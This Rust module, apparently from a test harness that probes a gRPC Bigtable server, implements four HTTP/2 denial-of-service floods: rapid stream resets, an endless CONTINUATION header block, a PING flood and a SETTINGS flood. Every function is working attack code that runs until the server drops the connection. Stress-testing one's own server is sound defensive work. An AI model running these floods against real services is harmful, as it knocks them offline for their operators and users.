//! Frames that cost a server more than they cost who sends them.

use crate::AnyError;
use crate::hostile::attacker::Field;
use crate::hostile::tables::NARROW;
use crate::hostile::wire::{Peer, READ_ROWS, bare_frame, frame, framed, junk_headers, opening};
use googleapis_tonic_google_bigtable_v2::google::bigtable::v2 as data;
use h2::Reason;
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Frames that are written at once.
const FRAMES: usize = 200;
const HEADER_FIELDS: usize = 60;
const HEADER_BYTES: u8 = 120;
const WINDOW: u32 = 64 << 10;

/// Cancels calls as soon as they are sent.
pub(super) async fn resets(field: &Field) -> Result<(), AnyError> {
    let peer = Peer::connect(field, WINDOW).await?;
    let request = data::ReadRowsRequest { table_name: NARROW.to_owned(), ..Default::default() };
    let message = framed(&request.encode_to_vec());
    while peer.is_open() {
        for _ in 0..FRAMES {
            let (_answer, mut upload) = peer.begin(READ_ROWS, None).await?;
            upload.send_data(message.clone(), true)?;
            upload.send_reset(Reason::CANCEL);
        }
        field.sent(FRAMES as u64);
        tokio::task::yield_now().await;
    }
    Err("the connection was closed".into())
}

/// Begins a header block that never ends.
pub(super) async fn headers(field: &Field) -> Result<(), AnyError> {
    let mut stream = field.connect().await?;
    let block = junk_headers(HEADER_FIELDS, HEADER_BYTES);
    stream.write_all(&opening()).await?;
    stream.write_all(&bare_frame(frame::HEADERS, 0, 1, &block)).await?;
    send_for_ever(field, stream, &bare_frame(frame::CONTINUATION, 0, 1, &block)).await
}

/// Sends pings that want an answer, and takes the answers.
pub(super) async fn pings(field: &Field) -> Result<(), AnyError> {
    let mut stream = field.connect().await?;
    stream.write_all(&opening()).await?;
    send_for_ever(field, stream, &bare_frame(frame::PING, 0, 0, b"hostile!")).await
}

/// Sends settings that want to be acknowledged, and takes the acknowledgements.
pub(super) async fn settings(field: &Field) -> Result<(), AnyError> {
    let mut stream = field.connect().await?;
    stream.write_all(&opening()).await?;
    // INITIAL_WINDOW_SIZE: the server has to look at each stream.
    let window = bare_frame(frame::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]);
    send_for_ever(field, stream, &window).await
}

/// Sends one frame again and again; ends with the error when the server closes.
async fn send_for_ever(field: &Field, stream: TcpStream, one: &[u8]) -> Result<(), AnyError> {
    let (mut read, mut write) = stream.into_split();
    let answers = async {
        let mut bytes = vec![0; 64 << 10];
        while read.read(&mut bytes).await? > 0 {}
        Err::<(), AnyError>("the connection was closed".into())
    };
    let many = one.repeat(FRAMES);
    let frames = async {
        loop {
            write.write_all(&many).await?;
            field.sent(FRAMES as u64);
        }
    };
    tokio::select! {
        ended = answers => ended,
        ended = frames => ended,
    }
}
